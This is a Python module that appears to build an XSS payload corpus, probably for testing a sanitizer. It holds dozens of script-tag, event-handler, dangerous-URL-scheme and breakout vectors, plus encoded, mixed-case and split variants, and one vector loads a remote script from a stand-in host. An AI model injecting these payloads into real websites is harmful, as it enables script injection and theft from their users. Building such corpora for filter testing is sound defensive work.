"""A corpus of XSS payloads: classic vectors, event handlers, dangerous URL schemes, and
entity-encoded, mixed-case and split variants of each."""

import html
import itertools
import urllib.parse

MARK = "window.__xss=1"

VECTORS = [
    f"<script>{MARK}</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    f"<img src=x onerror={MARK}>",
    f'<img src="x" onerror="{MARK}">',
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<body onload={MARK}>",
    f"<iframe src=javascript:{MARK}></iframe>",
    f'<iframe srcdoc="<script>{MARK}</script>"></iframe>',
    f"<a href=javascript:{MARK}>click</a>",
    f'<a href="jav&#x09;ascript:{MARK}">tab</a>',
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>data</a>",
    "<a href=vbscript:msgbox(1)>vb</a>",
    f"<details open ontoggle={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f"<select autofocus onfocus={MARK}>",
    f"<textarea autofocus onfocus={MARK}>",
    f"<video><source onerror={MARK}></video>",
    f"<audio src=x onerror={MARK}>",
    f"<marquee onstart={MARK}>",
    f"<object data=javascript:{MARK}>",
    f"<embed src=javascript:{MARK}>",
    f"<form action=javascript:{MARK}><button>go</button></form>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
    f"<style>@import 'javascript:{MARK}';</style>",
    f'<div style="background:url(javascript:{MARK})">',
    f"<meta http-equiv=refresh content=0;url=javascript:{MARK}>",
    f"<base href=javascript:{MARK}//>",
    f"<link rel=stylesheet href=javascript:{MARK}>",
    f'"><script>{MARK}</script>',
    f"'><img src=x onerror={MARK}>",
    f"</textarea><script>{MARK}</script>",
    f"</title><script>{MARK}</script>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"<<script>script>{MARK}<</script>/script>",
    f"<img src=`x` onerror=`{MARK}`>",
    f"<img/src=x/onerror={MARK}>",
    f"javascript:{MARK}",
    f"data:text/html,<script>{MARK}</script>",
    f"https://example.org/?q=<script>{MARK}</script>",
    f'https://example.org/" onmouseover="{MARK}',
    f"www.example.org/<svg/onload={MARK}>",
    f"{{{{constructor.constructor('{MARK}')()}}}}",
    f"<!--<script>{MARK}</script>-->",
    f'<noscript><p title="</noscript><img src=x onerror={MARK}>">',
]


def variants(vector: str):
    yield vector
    yield vector.upper().replace("WINDOW.__XSS=1", MARK)
    yield html.escape(vector)  # entity-encoded
    yield "".join(f"&#{ord(ch)};" for ch in vector)  # decimal entities
    yield vector.replace("<", "<\n", 1)  # split across lines
    yield vector.replace("script", "scr\u200bipt")  # zero-width split
    yield f"Nice article! {vector} Thanks."
    yield urllib.parse.quote(vector)  # URL-encoded


PAYLOADS = list(dict.fromkeys(itertools.chain.from_iterable(variants(v) for v in VECTORS)))
